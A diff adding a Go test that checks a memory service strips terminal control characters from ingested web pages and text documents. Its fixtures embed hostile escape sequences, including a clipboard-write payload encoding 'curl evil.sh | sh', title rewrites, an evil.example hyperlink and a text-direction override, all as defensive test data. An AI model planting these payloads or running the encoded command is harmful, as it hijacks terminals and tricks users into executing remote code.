@@ -20,6 +20,7 @@ import (
 	"github.com/cairnmem/cairn/core/config"
 
 	"github.com/cairnmem/cairn/core"
+	"github.com/cairnmem/cairn/core/text"
 	"github.com/cairnmem/cairn/workers"
 )
 
@@ -627,5 +628,57 @@ func TestDocumentChunksAreEmbedded(t *testing.T) {
 	got := apitest.Recall(t, svc, core.RecallInput{Query: "why do containers get restarted by health checks", Mode: "vector", Limit: 3})
 	if len(got.Results) == 0 || got.Results[0].Type != documents.DocumentChunkType {
 		t.Fatalf("vector recall: %+v", got.Results)
+	}
+}
+
+// Issue 29: a web page's "&#x1b;]52;c;…&#x7;" becomes real ESC and BEL
+// when the HTML is stripped, and its <title> lands in a tag; a text
+// document carries the bytes as they are. Neither reaches a memory.
+func TestDocumentIngestCleansEscapes(t *testing.T) {
+	t.Parallel()
+	e := apitest.NewEnv(t, allowPrivate)
+	srv := page(t, map[string]http.HandlerFunc{
+		"/evil": func(w http.ResponseWriter, r *http.Request) {
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<html><head><title>Runbook&#x1b;]0;pwned&#x7;</title></head><body>
+<p>Restart the &#x1b;]52;c;Y3VybCBldmlsLnNoIHwgc2g=&#x7;payments worker with &#x1b;[2J&#x1b;[31mmake bounce&#x1b;[0m.</p></body></html>`)
+		},
+	})
+	urlDoc := createDoc(t, e, map[string]any{"source_type": "url", "url": srv.URL + "/evil"})
+	textDoc := createDoc(t, e, map[string]any{"source_type": "text", "title": "Notes\x1b]0;x\x07 \u202eevil",
+		"content": "The staging kettle\x1b]8;;https://evil.example/\x1b\\ lives\x1b]8;;\x1b\\ next to the \u009b2Jblue rack.\x00\a"})
+	runDocJobs(t, e)
+	for _, id := range []string{urlDoc, textDoc} {
+		chunks, _ := chunkContents(t, e, id)
+		if len(chunks) == 0 {
+			t.Fatalf("document %s has no chunks", id)
+		}
+		for _, c := range chunks {
+			if c != text.Display(c) || strings.ContainsAny(c, "\x1b\x07\x00\u009b") {
+				t.Errorf("chunk keeps control characters: %q", c)
+			}
+		}
+		m := e.Get(t, "/api/memory/"+e.SvcChunkID(t, id)).Want(t, 200)
+		tags, _ := m.JSON["tags"].([]any)
+		for _, tag := range tags {
+			if err := text.CheckIdentifier("tags", tag.(string)); err != nil {
+				t.Errorf("tag %q: %v", tag, err)
+			}
+		}
+	}
+	chunks, _ := chunkContents(t, e, urlDoc)
+	if want := "Restart the payments worker with make bounce."; chunks[0] != want {
+		t.Errorf("page chunk = %q, want %q", chunks[0], want)
+	}
+	if d := e.Get(t, "/api/documents/"+urlDoc).Want(t, 200); d.Str("title") != "Runbook" {
+		t.Errorf("page title = %q", d.Str("title"))
+	}
+	chunks, _ = chunkContents(t, e, textDoc)
+	if want := "The staging kettle lives next to the blue rack."; chunks[0] != want {
+		t.Errorf("text chunk = %q, want %q", chunks[0], want)
+	}
+	m := e.Get(t, "/api/memory/"+e.SvcChunkID(t, textDoc)).Want(t, 200)
+	if tags, _ := m.JSON["tags"].([]any); len(tags) != 1 || tags[0] != "document:Notes evil" {
+		t.Errorf("text document tag = %v", m.JSON["tags"])
 	}
 }
